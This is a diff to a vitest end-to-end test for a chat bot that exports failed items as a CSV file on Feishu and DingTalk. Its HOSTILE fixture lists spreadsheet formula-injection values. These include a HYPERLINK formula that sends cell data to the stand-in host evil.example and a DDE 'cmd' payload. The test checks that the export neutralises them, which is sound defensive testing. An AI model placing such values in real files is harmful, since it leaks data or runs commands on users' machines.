@@ -1,18 +1,20 @@
 import { TOPIC_CARD, TOPIC_ROBOT } from 'dingtalk-stream';
-import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { FakeFeishu } from '../../src/sandbox/fake-feishu.js';
 import type { FakeMessage } from '../../src/sandbox/fake-feishu-im.js';
 import { platformsEach, until, withDingtalk, withFeishu } from '../helpers/bot.js';
 import { FEISHU_FILE_MAX_BYTES, FeishuOpenApi } from '../../src/platforms/feishu/openapi.js';
+import { readCsv } from '../helpers/rfc4180.js';
 
 const toast = (ack: { data?: unknown }) => (ack.data as { toast: { content: string } }).toast.content;
+const STARTED = 'Preparing a file of the failed items; it will be posted as a reply to this card';
+const BUSY = 'The file of the failed items is already being prepared';
 const hex = (n: number) => n.toString(16).padStart(32, '0');
 /** Upstream text that a spreadsheet would run, and text that breaks naive CSV. */
 const HOSTILE = [
   { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', msg: '+cmd|\' /C calc\'!A0' },
   { name: '@SUM(1+1)*cmd', msg: '-2+3' },
-  { name: '\t=1+1', msg: 'line one\r\nline "two", with a comma' },
+  { name: '\t=1+1\nline two\rthree', msg: 'line one\r\nline "two", with a comma' },
   { name: '张三，李四', msg: '＝1+1', email: 'zhang.san@example.com', mobile: '13912345678' },
 ];
 
@@ -37,7 +39,9 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     expect(json).toContain('Failed items (10000)');
     expect(json).toContain('"action":"export"');
 
-    expect(toast(await f.gateway.push(f.click(card.message_id, 'export')))).toBe('Preparing a file of the failed items; it will be posted as a reply to this card');
+    // Pressed twice at once: one file is made, the other press is told it is on its way.
+    const presses = await Promise.all([0, 1].map(() => f.gateway.push(f.click(card.message_id, 'export'))));
+    expect(presses.map(toast).sort()).toEqual([STARTED, BUSY].sort());
     const file = await until('the file', () => f.im.inChat('oc_x').find((m) => m.file), 15_000);
     expect(file.reply_to).toBe(card.message_id);
     expect(file.file!.name).toBe(`failed-contact-${hex(1)}.csv`);
@@ -47,7 +51,8 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     const bytes = file.file!.bytes;
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(bytes.byteLength).toBeLessThan(30 * 1024 * 1024);
-    const table: string[][] = parse(bytes.toString('utf8'), { bom: true });
+    // Read as a spreadsheet reads it: any unquoted line break would end the row.
+    const table = readCsv(bytes);
     expect(table[0]).toEqual(['Name', 'ID', 'Code', 'Reason', 'Email', 'Mobile']);
     expect(table).toHaveLength(10_001);
     // Every would-be formula is text; quotes, commas and line breaks come back as they were.
@@ -76,6 +81,10 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     const refused = await until('the refusal', () => f.im.inChat('oc_z').find((m) => m.reply_to === done.message_id && JSON.stringify(m.card).includes('Could not export')));
     expect(JSON.stringify(refused.card)).toContain('PERMISSION_DENIED');
     expect(f.im.inChat('oc_z').some((m) => m.file)).toBe(false);
+    // The failed export let go of the card at once (well before its hold would lapse): a new press makes the file.
+    f.restoreScope('/open-apis/im/v1/files');
+    await until('a new press starts a new file', async () => toast(await f.gateway.push(f.click(done.message_id, 'export'))) === STARTED, 5000);
+    await until('the file', () => f.im.inChat('oc_z').find((m) => m.file && m.reply_to === done.message_id), 10_000);
   });
 
   it("a file over Feishu's 30 MB limit is refused before any upload (the fake refuses one too, as Feishu documents)", async () => {
